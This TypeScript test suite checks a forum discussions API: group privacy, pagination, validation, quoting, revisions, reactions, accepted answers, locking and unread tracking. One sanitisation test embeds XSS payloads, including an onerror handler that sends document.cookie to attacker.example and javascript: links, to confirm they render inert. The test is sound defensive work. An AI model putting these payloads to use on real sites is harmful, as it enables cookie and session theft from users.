import assert from 'node:assert/strict';
import { after, before, it } from 'node:test';
import type { FastifyInstance, LightMyRequestResponse } from 'fastify';
import { buildTestApp } from '../../test-support/app.ts';
import { describeEachDatabase } from '../../test-support/databases.ts';
import { buildCaller, buildGroup } from '../../test-support/groups.ts';
import type { ApiCaller } from '../../test-support/groups.ts';
import { setThreadLocked } from './threads.ts';

// The discussions API through inject(), on both databases. BUG-01's Atom
// feeds land with the feeds next session; here its JSON half is checked.

type Method = 'GET' | 'POST' | 'PUT' | 'PATCH' | 'DELETE';

await describeEachDatabase('the Talk discussions API', (database) => {
  let app: FastifyInstance;
  let alice: ApiCaller;
  let bob: ApiCaller;
  let admin: ApiCaller;

  before(async () => {
    app = await buildTestApp(database());
    const { db } = database();
    alice = await buildCaller(db, { displayName: 'Alice' });
    bob = await buildCaller(db, { displayName: 'Bob' });
    admin = await buildCaller(db, { displayName: 'Ada', role: 'admin' });
  });
  after(async () => {
    await app.close();
  });

  function call(
    caller: ApiCaller | null,
    method: Method,
    url: string,
    payload?: object,
  ): Promise<LightMyRequestResponse> {
    return app.inject({
      method,
      url,
      headers: caller ? { authorization: caller.authorization } : {},
      ...(payload === undefined ? {} : { payload }),
    });
  }

  async function category(slug: string): Promise<void> {
    const made = await call(admin, 'POST', '/api/v1/talk/categories', {
      slug,
      name: slug,
    });
    assert.equal(made.statusCode, 201, made.body);
  }

  async function thread(
    caller: ApiCaller,
    url: string,
    body: object,
  ): Promise<number> {
    const made = await call(caller, 'POST', url, body);
    assert.equal(made.statusCode, 201, made.body);
    return made.json<{ id: number }>().id;
  }

  async function reply(
    caller: ApiCaller,
    threadId: number,
    body: object,
  ): Promise<LightMyRequestResponse> {
    return call(
      caller,
      'POST',
      `/api/v1/talk/threads/${threadId}/replies`,
      body,
    );
  }

  it('keeps a members-only thread from outsiders (BUG-01)', async () => {
    const { db } = database();
    const board = await buildGroup(db, alice.id, {
      name: 'Board',
      visibility: 'closed',
    });
    const id = await thread(
      alice,
      `/api/v1/talk/groups/${board.slug}/threads`,
      {
        title: 'Merger timeline',
        body: 'Target close date 2025-06-30',
      },
    );
    const urls = [
      `/api/v1/talk/threads/${id}`,
      `/api/v1/talk/threads/${id}/replies`,
      `/api/v1/talk/categories/group-${board.slug}/threads`,
    ];

    for (const caller of [null, bob]) {
      for (const url of urls) {
        const response = await call(caller, 'GET', url);
        assert.equal(response.statusCode, caller ? 404 : 401, url);
        assert.doesNotMatch(response.body, /Merger timeline|Target close/);
      }
    }
    const latest = await call(bob, 'GET', '/api/v1/talk/latest');
    assert.equal(latest.statusCode, 200);
    assert.doesNotMatch(latest.body, /Merger timeline|Target close|Board/);
    const groupList = await call(
      bob,
      'GET',
      `/api/v1/talk/groups/${board.slug}/threads`,
    );
    assert.equal(groupList.statusCode, 403);
    const mine = await call(alice, 'GET', `/api/v1/talk/threads/${id}`);
    assert.equal(mine.statusCode, 200);
    assert.equal(mine.json<{ title: string }>().title, 'Merger timeline');
    const aliceLatest = await call(alice, 'GET', '/api/v1/talk/latest');
    assert.match(aliceLatest.body, /Merger timeline/);
  });

  it('pages posts 5, 5, 1 from the opening post, 404 past the end (BUG-29)', async () => {
    await category('bug-29');
    const id = await thread(alice, '/api/v1/talk/categories/bug-29/threads', {
      title: 'Thread A',
      body: 'Opening',
    });
    const replyIds: number[] = [];
    for (let n = 1; n <= 10; n += 1) {
      const made = await reply(bob, id, { body: `Reply ${n}` });
      replyIds.push(made.json<{ id: number }>().id);
    }
    const page = (n: number) =>
      call(
        bob,
        'GET',
        `/api/v1/talk/threads/${id}/replies?page=${n}&pageSize=5`,
      );

    const sizes = [];
    for (const n of [1, 2, 3]) {
      const body = (await page(n)).json<{
        items: unknown[];
        pageCount: number;
        total: number;
      }>();
      sizes.push(body.items.length);
      assert.equal(body.pageCount, 3);
      assert.equal(body.total, 11);
    }
    assert.deepEqual(sizes, [5, 5, 1]);
    assert.equal(
      (await page(4)).json<{ error: { code: string } }>().error.code,
      'PAGE_NOT_FOUND',
    );

    const deleted = await call(
      bob,
      'DELETE',
      `/api/v1/talk/posts/${replyIds[1]}`,
    );
    assert.equal(deleted.statusCode, 204);
    assert.equal((await page(2)).json<{ pageCount: number }>().pageCount, 2);
    assert.equal((await page(3)).statusCode, 404);

    const last = await call(
      bob,
      'GET',
      `/api/v1/talk/posts/${replyIds[9]}?pageSize=5`,
    );
    assert.deepEqual(
      {
        page: last.json<{ page: number }>().page,
        thread: last.json<{ thread: { id: number } }>().thread.id,
      },
      { page: 2, thread: id },
    );
    const placeholder = await call(
      bob,
      'GET',
      `/api/v1/talk/posts/${replyIds[1]}`,
    );
    assert.equal(placeholder.statusCode, 200);
    assert.deepEqual(
      (({ deleted, body, author }) => ({ deleted, body, author }))(
        placeholder.json<{ deleted: boolean; body: null; author: null }>(),
      ),
      { deleted: true, body: null, author: null },
    );
  });

  it('renders a hostile reply inert in the html it answers (BUG-11)', async () => {
    await category('hostile');
    const id = await thread(alice, '/api/v1/talk/categories/hostile/threads', {
      title: 'Welcome',
      body: 'Hello',
    });
    const body = [
      '# Welcome',
      `<img src="x" onerror="navigator.sendBeacon('https://attacker.example/t', document.cookie)">`,
      '<iframe src="javascript:alert(1)"></iframe>',
      '<a href="#" style="position:fixed;top:0;left:0;width:100%;height:100%">x</a>',
      '[click](javascript:alert(1))',
    ].join('\n');

    const made = await reply(bob, id, { body });

    assert.equal(made.statusCode, 201, made.body);
    const page = await call(alice, 'GET', `/api/v1/talk/threads/${id}/replies`);
    const html =
      page.json<{ items: { html: string }[] }>().items[1]?.html ?? '';
    assert.match(html, /<h2 id="h-welcome">Welcome<\/h2>/);
    assert.doesNotMatch(html, /<img|<iframe|<a [^>]*style|href="javascript/i);
    assert.doesNotMatch(html, /<[^>]+onerror/i);
  });

  it('refuses bad input with a field for each mistake', async () => {
    await category('bad-input');
    const url = '/api/v1/talk/categories/bad-input/threads';
    const cases: [object, string][] = [
      [{ title: '  ', body: 'x' }, 'title'],
      [{ title: 'x'.repeat(201), body: 'x' }, 'title'],
      [{ title: 'Fine', body: 'x'.repeat(100_001) }, 'body'],
      [{ title: 'Fine', body: 'x', question: 'yes' }, 'question'],
    ];
    for (const [payload, field] of cases) {
      const response = await call(alice, 'POST', url, payload);
      assert.equal(response.statusCode, 422, field);
      const error = response.json<{
        error: { code: string; fields: Record<string, string> };
      }>().error;
      assert.equal(error.code, 'VALIDATION_FAILED');
      assert.deepEqual(Object.keys(error.fields), [field]);
    }
    const one = await thread(alice, url, { title: 'One', body: 'x' });
    const two = await thread(alice, url, { title: 'Two', body: 'y' });
    const other = (await reply(alice, two, { body: 'there' })).json<{
      id: number;
    }>().id;
    const quote = await reply(bob, one, { body: 'quoting', quoteOf: other });
    assert.equal(quote.statusCode, 422);
    assert.deepEqual(
      Object.keys(quote.json<{ error: { fields: object } }>().error.fields),
      ['quoteOf'],
    );
  });

  it('quotes with author and link, keeps edits, counts a reaction once', async () => {
    await category('quotes');
    const id = await thread(alice, '/api/v1/talk/categories/quotes/threads', {
      title: 'Quotes',
      body: 'Start',
    });
    const first = (await reply(alice, id, { body: 'Said first' })).json<{
      id: number;
    }>().id;
    const second = await reply(bob, id, { body: 'Agreed', quoteOf: first });
    const quote = second.json<{
      quote: { id: number; author: { name: string }; path: string };
    }>().quote;
    assert.deepEqual(
      { id: quote.id, author: quote.author.name, path: quote.path },
      { id: first, author: 'Alice', path: `/api/v1/talk/posts/${first}` },
    );

    const edited = await call(alice, 'PATCH', `/api/v1/talk/posts/${first}`, {
      body: 'Said better',
    });
    assert.equal(edited.statusCode, 200, edited.body);
    assert.equal(edited.json<{ body: string }>().body, 'Said better');
    assert.notEqual(edited.json<{ editedAt: string | null }>().editedAt, null);
    const history = await call(
      bob,
      'GET',
      `/api/v1/talk/posts/${first}/revisions`,
    );
    assert.deepEqual(
      history.json<{ items: { body: string }[] }>().items.map((r) => r.body),
      ['Said first'],
    );
    const stranger = await call(bob, 'PATCH', `/api/v1/talk/posts/${first}`, {
      body: 'mine now',
    });
    assert.equal(stranger.statusCode, 403);

    for (let n = 0; n < 2; n += 1) {
      const liked = await call(
        bob,
        'PUT',
        `/api/v1/talk/posts/${first}/reactions/like`,
      );
      assert.equal(liked.statusCode, 204);
    }
    const post = (await call(bob, 'GET', `/api/v1/talk/posts/${first}`)).json<{
      reactions: { like: number };
      myReactions: string[];
    }>();
    assert.deepEqual([post.reactions.like, post.myReactions], [1, ['like']]);
    const odd = await call(
      bob,
      'PUT',
      `/api/v1/talk/posts/${first}/reactions/hate`,
    );
    assert.equal(odd.statusCode, 422);
  });

  it("keeps the thread's old title with the opening post's revision", async () => {
    await category('renames');
    const id = await thread(alice, '/api/v1/talk/categories/renames/threads', {
      title: 'Frist draft',
      body: 'Opening words',
    });
    const opening = (
      await call(bob, 'GET', `/api/v1/talk/threads/${id}`)
    ).json<{ opening: { id: number } }>().opening.id;

    const renamed = await call(
      alice,
      'PATCH',
      `/api/v1/talk/posts/${opening}`,
      {
        title: 'First draft',
      },
    );
    assert.equal(renamed.statusCode, 200, renamed.body);
    const rewritten = await call(
      alice,
      'PATCH',
      `/api/v1/talk/posts/${opening}`,
      { body: 'Better opening words' },
    );
    assert.equal(rewritten.statusCode, 200, rewritten.body);

    const history = await call(
      bob,
      'GET',
      `/api/v1/talk/posts/${opening}/revisions`,
    );
    const items = history.json<{
      items: { title: string | null; body: string }[];
    }>().items;
    assert.deepEqual(
      items.map((r) => ({ title: r.title, body: r.body })),
      [
        { title: null, body: 'Opening words' },
        { title: 'Frist draft', body: 'Opening words' },
      ],
    );
  });

  it('accepts an answer, shows it after the question and lists unanswered questions', async () => {
    await category('questions');
    const url = '/api/v1/talk/categories/questions/threads';
    const asked = await thread(alice, url, {
      title: 'How?',
      body: 'Q',
      question: true,
    });
    const silent = await thread(alice, url, {
      title: 'Anyone?',
      body: 'Q',
      question: true,
    });
    const answer = (await reply(bob, asked, { body: 'Like this' })).json<{
      id: number;
    }>().id;
    const titles = async (without: string) =>
      (
        await call(
          bob,
          'GET',
          `/api/v1/talk/unanswered?without=${without}&pageSize=100`,
        )
      )
        .json<{ items: { id: number }[] }>()
        .items.map((item) => item.id)
        .filter((threadId) => threadId === asked || threadId === silent);

    assert.deepEqual(await titles('accepted'), [asked, silent]);
    assert.deepEqual(await titles('replies'), [silent]);
    const refused = await call(
      bob,
      'POST',
      `/api/v1/talk/threads/${asked}/accept`,
      { postId: answer },
    );
    assert.equal(refused.statusCode, 403);
    const accepted = await call(
      alice,
      'POST',
      `/api/v1/talk/threads/${asked}/accept`,
      { postId: answer },
    );
    assert.equal(accepted.statusCode, 204);
    const shown = (
      await call(bob, 'GET', `/api/v1/talk/threads/${asked}`)
    ).json<{
      acceptedReply: { id: number } | null;
    }>();
    assert.equal(shown.acceptedReply?.id, answer);
    assert.deepEqual(await titles('accepted'), [silent]);
    await call(admin, 'POST', `/api/v1/talk/threads/${asked}/unaccept`);
    assert.deepEqual(await titles('accepted'), [asked, silent]);
  });

  it('refuses replies to a locked thread except from a moderator', async () => {
    const { db } = database();
    await category('locked');
    const id = await thread(alice, '/api/v1/talk/categories/locked/threads', {
      title: 'Closed',
      body: 'Done',
    });
    await setThreadLocked(db, id, true);

    const refused = await reply(bob, id, { body: 'one more' });
    assert.equal(refused.statusCode, 423);
    assert.equal(
      refused.json<{ error: { code: string } }>().error.code,
      'THREAD_LOCKED',
    );
    assert.equal((await reply(admin, id, { body: 'noted' })).statusCode, 201);
  });

  it('marks the first unread post for each reader and keeps a watch', async () => {
    await category('unread');
    const id = await thread(alice, '/api/v1/talk/categories/unread/threads', {
      title: 'News',
      body: 'First',
    });
    const replies: number[] = [];
    for (let n = 1; n <= 3; n += 1) {
      replies.push(
        (await reply(alice, id, { body: `News ${n}` })).json<{ id: number }>()
          .id,
      );
    }
    await call(bob, 'POST', `/api/v1/talk/threads/${id}/read`, { position: 2 });
    const watched = await call(bob, 'PUT', `/api/v1/talk/threads/${id}/watch`, {
      level: 'mute',
    });
    assert.equal(watched.statusCode, 200);

    const view = (await call(bob, 'GET', `/api/v1/talk/threads/${id}`)).json<{
      firstUnread: { postId: number; position: number; page: number };
      watch: string;
    }>();
    assert.deepEqual(view.firstUnread, {
      postId: replies[1],
      position: 3,
      page: 1,
    });
    assert.equal(view.watch, 'mute');
  });
});
